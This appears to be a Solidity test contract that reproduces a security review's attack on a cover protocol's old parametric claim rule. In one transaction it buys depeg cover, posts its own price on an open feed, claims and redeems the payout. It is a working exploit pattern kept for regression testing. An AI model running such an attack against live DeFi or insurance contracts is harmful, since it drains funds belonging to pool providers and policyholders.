// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC721Receiver} from "@openzeppelin/contracts/token/ERC721/IERC721Receiver.sol";
import {ICoverBook} from "../../../contracts/cover/interfaces/ICoverBook.sol";
import {ICoverClaims} from "../../../contracts/claims/interfaces/ICoverClaims.sol";
import {LocalPriceFeed} from "../../../contracts/local/LocalPriceFeed.sol";

/**
 * @notice The attack of the review on the old parametric rule, in one transaction: buy depeg cover, file a
 * parametric claim from a round at or below the trigger (the feed's latest, or one it posts itself on the
 * open local feed) and redeem the payout.
 */
contract BuyClaimRedeem is IERC721Receiver {
    ICoverBook public immutable book;
    ICoverClaims public immutable claims;

    constructor(ICoverBook book_, ICoverClaims claims_) {
        book = book_;
        claims = claims_;
    }

    /// @notice Buys, (posts `postPrice` when not zero), claims from the feed's latest round and redeems.
    function attack(
        IERC20 asset,
        uint256 productId,
        uint256 amount,
        uint256 period,
        LocalPriceFeed feed,
        int256 postPrice
    ) external returns (uint256 paid) {
        asset.approve(address(book), type(uint256).max);
        uint256 coverId = book.buyCover(productId, amount, period, type(uint256).max);
        if (postPrice != 0) feed.setAnswer(postPrice);
        (uint80 roundId, , , , ) = feed.latestRoundData();
        uint256 claimId = claims.submitParametricClaim(coverId, amount, roundId);
        paid = claims.redeemPayout(claimId);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return IERC721Receiver.onERC721Received.selector;
    }
}
